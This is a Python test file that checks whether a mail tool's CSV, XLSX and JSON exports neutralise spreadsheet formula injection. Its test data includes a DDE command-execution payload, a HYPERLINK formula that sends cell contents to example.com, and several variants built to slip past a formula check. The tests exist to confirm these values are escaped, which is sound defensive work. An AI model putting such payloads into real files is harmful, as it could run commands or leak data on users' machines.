"""Sheets that leave the register: every cell is there, and none of them is a formula."""

import csv
import json
from datetime import datetime
from pathlib import Path
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from mailbot.exports.sheets import SHEETS, Cell, is_formula, write_csv, write_xlsx

AT = datetime(2025, 6, 5, 11, 20, tzinfo=ZoneInfo("Europe/Moscow"))
KEYS = ("number", "at", "on", "name")
HEADS = ("№", "Когда", "День", "ФИО")

FORMULAS = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1)',
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
]
PLAIN = ["Орлова Марина", "12/2025", "a=b", "5-6", "marina@example.ru", ""]


def rows(*names: str) -> list[tuple[Cell, ...]]:
    return [(f"{n}/2025", AT, AT.date(), name) for n, name in enumerate(names, start=1)]


def test_what_a_spreadsheet_would_compute_is_known() -> None:
    assert all(map(is_formula, FORMULAS))
    assert not any(map(is_formula, PLAIN))


def test_a_csv_opens_in_a_russian_excel_and_computes_nothing(tmp_path: Path) -> None:
    file = tmp_path / "register.csv"
    write_csv(file, KEYS, HEADS, rows(*FORMULAS, *PLAIN))
    with file.open(encoding="utf-8-sig", newline="") as opened:
        heads, *read = csv.reader(opened, delimiter=";")

    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    assert tuple(heads) == HEADS
    assert read[0][:3] == ["1/2025", "05.06.2025 11:20", "05.06.2025"]
    assert [row[3] for row in read] == [*(f"'{words}" for words in FORMULAS), *PLAIN]


def test_an_xlsx_holds_dates_as_dates_and_formulas_as_text(tmp_path: Path) -> None:
    file = tmp_path / "register.xlsx"
    write_xlsx(file, KEYS, HEADS, rows(*FORMULAS, *PLAIN))
    sheet = load_workbook(file).active
    assert sheet is not None
    heads, *read = list(sheet.iter_rows())

    assert tuple(cell.value for cell in heads) == HEADS
    assert read[0][1].value == AT.replace(tzinfo=None)
    assert read[0][2].value == datetime(2025, 6, 5)  # noqa: DTZ001 -- a sheet knows no zones
    assert {cell.data_type for row in read for cell in row[3:] if cell.value} == {"s"}
    # Whoever edits the cell does not bring the formula to life.
    assert [row[3].quotePrefix for row in read] == [True] * len(FORMULAS) + [False] * len(PLAIN)
    with ZipFile(file) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_a_heading_stays_in_sight_and_can_be_filtered(tmp_path: Path) -> None:
    file = tmp_path / "register.xlsx"
    write_xlsx(file, KEYS, HEADS, rows("a", "b"))
    sheet = load_workbook(file).active
    assert sheet is not None

    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:D3"


def test_json_lines_bear_iso_dates_and_null_for_nothing(tmp_path: Path) -> None:
    file = tmp_path / "register.json"
    SHEETS[".json"](file, KEYS, HEADS, rows("=1", ""))
    first, second = (json.loads(line) for line in file.read_text(encoding="utf-8").splitlines())

    assert first == {
        "number": "1/2025", "at": "2025-06-05T11:20:00+03:00", "on": "2025-06-05", "name": "=1",
    }  # fmt: skip
    assert second["name"] is None


@pytest.mark.parametrize("suffix", SHEETS)
def test_broken_characters_of_a_letter_break_no_sheet(tmp_path: Path, suffix: str) -> None:
    file = tmp_path / f"register{suffix}"
    broken = ("\ud83d", "\x01\x1b[31m", "a\nb", "ы" * 40_000, "]]>&<")
    SHEETS[suffix](file, KEYS, HEADS, rows(*broken))

    assert file.stat().st_size
    if suffix == ".xlsx":
        sheet = load_workbook(file).active
        assert sheet is not None
        assert sheet.max_row == 1 + len(broken)
        assert len(str(sheet["D5"].value)) == 32_767
